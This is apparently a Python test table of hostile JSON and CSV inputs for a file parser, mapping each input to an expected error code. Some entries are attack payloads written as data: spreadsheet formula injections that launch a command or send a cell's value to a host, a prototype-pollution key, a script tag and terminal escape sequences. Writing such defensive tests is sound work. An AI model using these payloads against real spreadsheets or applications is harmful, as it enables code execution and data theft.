# ruff: noqa: E501, PLW0108 (a table: one case reads best on one line, and makes its bytes only when it runs)
"""Hostile JSON and CSV: what two readers would understand differently, and what makes one reader swell."""

import codecs
from typing import Final

from hostile_cases import CSV, JSON, MIB, PARSED, SMUGGLED, STOPPED, Hostile, case

_DEPTH: Final = 64  # the deepest that is read


def _nested(depth: int) -> bytes:
    return b"[" * depth + b'"x"' + b"]" * depth


_JSON: Final = (
    case("JSON at the deepest allowed", JSON, lambda: _nested(_DEPTH), PARSED),
    case("JSON one deeper", JSON, lambda: _nested(_DEPTH + 1), "JSON_TOO_DEEP"),
    case("brackets inside a string", JSON, lambda: b'["' + b"[{" * 100_000 + b'"]', PARSED),
    case("brackets behind an escaped quote", JSON, lambda: b'["\\\\", ' + b"[" * 100_000, "JSON_TOO_DEEP"),
    case("brackets that close first", JSON, lambda: b"[]" + b"]" * 200 + b"[" * 200, "JSON_INVALID", "JSON_TOO_DEEP"),
    case("lists and objects in turn, deep", JSON, lambda: b'[{"a":' * 50_000, "JSON_TOO_DEEP"),
    case("exponent past all", JSON, lambda: b'{"a": 1e999}', "JSON_NUMBER_INVALID"),
    case("negative exponent past all", JSON, lambda: b'{"a": -1e999}', "JSON_NUMBER_INVALID"),
    case("exponent of 60 digits", JSON, lambda: b'{"a": 1e' + b"9" * 60 + b"}", "JSON_NUMBER_INVALID"),
    case("number that rounds to nothing", JSON, lambda: b'{"a": 1e-99999999999999}', PARSED),
    case("infinity", JSON, lambda: b'{"a": -Infinity}', "JSON_NUMBER_INVALID"),
    case("leading zero", JSON, lambda: b'{"a": 007}', "JSON_INVALID"),
    case("hexadecimal number", JSON, lambda: b'{"a": 0x10}', "JSON_INVALID"),
    case("plus sign", JSON, lambda: b'{"a": +1}', "JSON_INVALID"),
    case("Arabic digits", JSON, lambda: '{"a": ١٢}'.encode(), "JSON_INVALID"),
    case("same key by escape", JSON, lambda: b'{"tier": 3, "t\\u0069er": 1}', "JSON_DUPLICATE_KEY"),
    case("same key deep inside", JSON, lambda: b'[[{"a": [{"b": 1, "b": 2}]}]]', "JSON_DUPLICATE_KEY"),
    case("prototype as key", JSON, lambda: b'{"__proto__": {"admin": true}, "constructor": 1}', PARSED),
    case("key of control characters", JSON, lambda: b'{"a\\u001b[2J\\n\\u0000": "x"}', PARSED),
    case("half a surrogate pair as key", JSON, lambda: b'{"\\ud800": 1}', "JSON_SURROGATE"),
    case("surrogate pair the wrong way round", JSON, lambda: b'["\\ude00\\ud83d"]', "JSON_SURROGATE"),
    case("half a surrogate pair in the title", JSON, lambda: b'{"title": "\\udfff"}', "JSON_SURROGATE"),
    case("surrogate in raw UTF-8", JSON, lambda: b'["\xed\xa0\x80"]', "ENCODING_INVALID"),
    case("raw control character in a string", JSON, lambda: b'["a\x01b"]', "JSON_INVALID"),
    case("raw line break in a string", JSON, lambda: b'["a\nb"]', "JSON_INVALID"),
    case("NUL after the value", JSON, lambda: b"[1]\x00", "CONTENT_TYPE_MISMATCH"),
    case("NUL far inside", JSON, lambda: b'["' + b"a" * 70_000 + b'\x00"]', "JSON_INVALID"),
    case("junk after the value", JSON, lambda: b'{"a": 1} {"a": 2}', "JSON_INVALID"),
    case("lines of JSON", JSON, lambda: b'{"a": 1}\n' * 1000, "JSON_INVALID"),
    case("comments in JSON", JSON, lambda: b'{"a": 1 /* SMUGGLED */} // x', "JSON_INVALID"),
    case("comma at the end", JSON, lambda: b'{"a": 1,}', "JSON_INVALID"),
    case("single quotes", JSON, lambda: b"['a']", "JSON_INVALID"),
    case("key without quotes", JSON, lambda: b"{a: 1}", "JSON_INVALID"),
    case("guard against inclusion", JSON, lambda: b')]}\'\n{"a": 1}', "CONTENT_TYPE_MISMATCH"),
    case("escape that does not exist", JSON, lambda: b'["\\x41"]', "JSON_INVALID"),
    case("escape cut off", JSON, lambda: b'["\\u12"]', "JSON_INVALID"),
    case("two byte order marks in JSON", JSON, lambda: codecs.BOM_UTF8 * 2 + b"[1]", "CONTENT_TYPE_MISMATCH", "JSON_INVALID"),
    case("JSON in UTF-32", JSON, lambda: '["x"]'.encode("utf-32"), "ENCODING_INVALID"),
    case("JSON in UTF-16 with half a letter", JSON, lambda: '["x"]'.encode("utf-16")[:-1], "ENCODING_INVALID"),
    case("JSON in UTF-16 without a mark", JSON, lambda: '["x"]'.encode("utf-16-le"), "CONTENT_TYPE_MISMATCH"),
    case("one array of 8 million numbers", JSON, lambda: b"[" + b"1," * (8 * MIB - 1) + b"1]", "TEXT_TOO_LARGE", *STOPPED),
    case("one million empty objects", JSON, lambda: b"[" + b"{}," * MIB + b"{}]", "TEXT_EMPTY", *STOPPED),
    case("one million keys", JSON, lambda: b"{" + b",".join(b'"%d":0' % n for n in range(MIB)) + b"}", "TEXT_TOO_LARGE", *STOPPED),
    case("path that grows at each level", JSON, lambda: b"".join(b'{"%s":' % (b"k" * 250) for _ in range(60)) + b'["a"' + b',"a"' * 100_000 + b"]" + b"}" * 60, "TEXT_TOO_LARGE"),
    case("8 MiB of blanks around a number", JSON, lambda: b" " * 60_000 + b"1" + b" " * (8 * MIB), PARSED),
    case("string of 9 million letters", JSON, lambda: b'["' + b"x" * 9_000_000 + b'"]', "TEXT_TOO_LARGE"),
    case("web page in JSON", JSON, lambda: b'{"a": "<script>alert(1)</script>"}', PARSED),
    case("archive as JSON", JSON, lambda: b"PK\x03\x04[]", "CONTENT_TYPE_MISMATCH"),
)  # fmt: skip


def _rows(header: bytes, row: bytes, count: int) -> bytes:
    return header + b"\n" + row * count


_CSV: Final = (
    *(case(f"formula {mark}", CSV, lambda mark=mark: f"a,b\n{mark}cmd|' /C calc'!A0,x\n".encode(), PARSED) for mark in "=@"),
    case("formula that sends", CSV, lambda: b'a\n"=HYPERLINK(""http://127.0.0.1:9/""&A1)"\n', PARSED),
    case("formula behind a tab", CSV, lambda: b"a;b\n\t=1+1;\r=2\n", PARSED, "CSV_INVALID"),
    case("quote without end", CSV, lambda: b'a,b\n"x' + b",y\n" * 1000, "CSV_INVALID"),
    case("quote without end past a field's limit", CSV, lambda: b'a,b\n"x' + b",y\n" * MIB, "CSV_TOO_WIDE"),
    case("letters after a quote", CSV, lambda: b'a,b\n"x"y,z\n', "CSV_INVALID"),
    case("quote in the middle", CSV, lambda: b'a,b\nx"y",z\n', PARSED),
    case("field of 10 MiB", CSV, lambda: b"a,b\n" + b"x" * (10 * MIB), "CSV_TOO_WIDE"),
    case("header of 10 MiB", CSV, lambda: b"x" * (10 * MIB), "CSV_TOO_WIDE"),
    case("row longer than its header", CSV, lambda: b"a,b\n1,2,SMUGGLED\n", "CSV_INVALID"),
    case("row of 10^6 empty cells", CSV, lambda: b"a,b\n1,2" + b"," * 10**6 + b"\n", PARSED),
    case("row of 30 million empty cells", CSV, lambda: b"a,b\n1,2" + b"," * (30 * MIB) + b"\n", PARSED, *STOPPED),
    case("three kinds of line ends", CSV, lambda: b"a,b\r1,2\n3,4\r\n5,6\n\r7,8", PARSED),
    case("line ends that only Unicode knows", CSV, lambda: "a,b\n1,2\u2028x,y\x85z,w\x0b\x0c".encode(), "CSV_INVALID"),
    case("NUL in a table", CSV, lambda: b"a,b\n\x001,2\n", "CONTENT_TYPE_MISMATCH"),
    case("NUL far inside a table", CSV, lambda: b"a,b\n" + b"1,2\n" * 20_000 + b'"\x00",2\n', PARSED),
    case("header of nothing", CSV, lambda: b",,,\n1,2,3,4\n", PARSED),
    case("all separators at once", CSV, lambda: b"a,b;c\td|e\n1,2;3\t4|5\n", PARSED),
    case("separator line of a spreadsheet", CSV, lambda: b"sep=;\na;b\n1;2\n", "CSV_INVALID", PARSED),
    case("two columns of one name", CSV, lambda: b"tier,tier\n3,1\n", PARSED),
    case("one million empty lines", CSV, lambda: b"a\n" + b"\n" * MIB + b"x\n", PARSED),
    case("8 million rows", CSV, lambda: _rows(b"a", b"1\n", 8 * MIB), "TEXT_TOO_LARGE", *STOPPED),
    case("table of quotes only", CSV, lambda: b'""""""\n' * 1000, PARSED),
    case("table in JSON", CSV, lambda: b'{"a": 1}', "CONTENT_TYPE_MISMATCH"),
    case("table in a web page", CSV, lambda: b"<!doctype html><table>", "CONTENT_TYPE_MISMATCH"),
    case("table in a spreadsheet file", CSV, lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + SMUGGLED.encode(), "CONTENT_TYPE_MISMATCH"),
    case("terminal orders in a header", CSV, lambda: b"a\x1b]0;x\x07,b\x08\n1,2\n", PARSED),
    case("table with a mark of UTF-16 and an odd byte", CSV, lambda: "a,b\n1,2".encode("utf-16") + b"\x00", "ENCODING_INVALID"),
)  # fmt: skip

CASES: Final[tuple[Hostile, ...]] = (*_JSON, *_CSV)
